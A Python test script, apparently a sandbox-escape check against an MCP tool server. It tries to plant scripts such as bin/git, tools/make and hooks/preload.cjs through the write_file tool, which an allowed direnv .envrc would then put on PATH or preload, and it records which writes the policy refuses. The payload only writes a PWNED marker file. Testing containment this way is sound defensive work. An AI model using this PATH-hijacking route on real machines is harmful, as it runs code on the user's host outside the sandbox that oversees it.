#!/usr/bin/env python3
"""rcloads: an allowed .envrc that puts workspace directories on the user's PATH (direnv's PATH_add / path_add /
load_prefix, a plain export PATH=$PWD/…) or loads a hook through an exported loader variable: the directories'
programs run on the host at the user's next command after cd (`git status` finds bin/git first). write_file only
(policy wc.toml). Control: the .envrc's `source_env_if_exists .envrc.private` (followed since atk40 F11)."""
import sys, os, subprocess, shutil
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
ws, home = "/tmp/atk40b/ws", "/tmp/atk40b/home"
for e in os.listdir(ws):
    p = f"{ws}/{e}"; shutil.rmtree(p) if os.path.isdir(p) and not os.path.islink(p) else os.remove(p)
shutil.rmtree(home, ignore_errors=True); os.makedirs(home)
envrc = ("source_env_if_exists .envrc.private\nPATH_add bin\npath_add PYTHONPATH pylib\nload_prefix vendor/local\n"
         "export PATH=$PWD/tools:$PATH\nMANPATH_add man\nexport NODE_OPTIONS=\"--require $PWD/hooks/preload.cjs\"\nlayout node\n")
open(f"{ws}/.envrc", "w").write(envrc)
subprocess.run(f"chown -R 65534:65534 {ws}", shell=True, check=True)
print(".envrc:", envrc.replace("\n", " | "))
s = Stdio(["/tmp/atk40b/mcpsandbox", "serve", "--policy", "/tmp/atk40b/wc.toml"], env={"HOME": home, "PATH": "/usr/bin:/bin"}, err="/tmp/atk40b/f3.log")
for p in [".envrc.private", "bin/git", "pylib/sitecustomize.py", "vendor/local/bin/ls", "tools/make", "hooks/preload.cjs", "node_modules/.bin/npm"]:
    r = text(s.call("write_file", {"path": p, "content": "#!/bin/sh\nid > /tmp/atk40b/PWNED\n"})).strip().replace("\n", " | ")
    print(("APPLIED" if " change(s) applied" in r and "0 change(s) applied" not in r else "REFUSED") + f": {p}: {r[-120:]}")
s.close()
